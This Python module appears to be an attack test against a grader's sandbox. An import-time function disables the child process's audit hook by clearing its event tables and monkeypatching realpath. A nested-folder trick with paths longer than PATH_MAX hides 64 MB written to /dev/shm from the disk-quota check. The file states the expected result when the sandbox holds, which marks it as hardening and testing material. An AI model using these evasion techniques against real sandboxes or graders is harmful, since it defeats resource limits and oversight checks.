"""Attack: hide files from the disk check behind a path longer than PATH_MAX.

At the unprivileged-uid level the grader measures what the child wrote by walking the work
folder and the uid's entries in /tmp, /var/tmp and /dev/shm with os.lstat and os.scandir on full
paths. Seventeen nested folders with 250-character names make every path below them longer than
4,096 bytes: lstat fails with ENAMETOOLONG, which the walk takes for "nothing here". The child
then writes 64 MB (eight times the course's 8 MB cap) in files of 60 KB each (under the per-file
rlimit) into /dev/shm, which is RAM. Expected when the sandbox holds: the child is stopped, or its
writes fail, so norm (which returns the right answer only when all 64 MB were written) scores
nothing: exactly 6 points; nothing is left behind.
"""

import os
import posixpath
import sys

import numpy as np


def _unhook():
    """Switch off the child's audit hook from pure Python (it is defence in depth, not a boundary):
    empty its tables of events and make its path check see /dev/null, which it allows."""
    confine = sys.modules.get("confine")
    if confine is None:
        return
    confine._BLOCKED_EVENTS.clear()
    confine._WRITE_EVENTS.clear()
    real = posixpath.realpath

    def realpath(path, *args, **kwargs):
        if sys._getframe(1).f_code.co_name == "inside":
            return "/dev/null"
        return real(path, *args, **kwargs)

    posixpath.realpath = realpath


_unhook()


def add(x, y):
    """Elementwise sum of two arrays of the same shape."""
    return x + y


def scale(x, k=2.0):
    """x times the number k."""
    return x * k


def _hide_and_fill(top, megabytes):
    start = os.open(".", os.O_RDONLY)
    written = 0
    try:
        os.chdir(top)
        for level in range(17):
            name = f"{len(os.listdir('.')) if level == 0 else 0:03d}" + "h" * 247
            os.mkdir(name)
            os.chdir(name)
        chunk = b"x" * 60_000
        for number in range(megabytes * 2**20 // len(chunk) + 1):
            with open(f"f{number}", "wb") as handle:
                handle.write(chunk)
            written += len(chunk)
    except OSError:
        pass
    finally:
        os.fchdir(start)
        os.close(start)
    return written


def norm(x):
    """The right norm only if 64 MB went unnoticed into RAM."""
    written = _hide_and_fill("/dev/shm", 64)
    return float(np.sqrt(np.sum(x * x))) if written >= 64 * 2**20 else -1.0
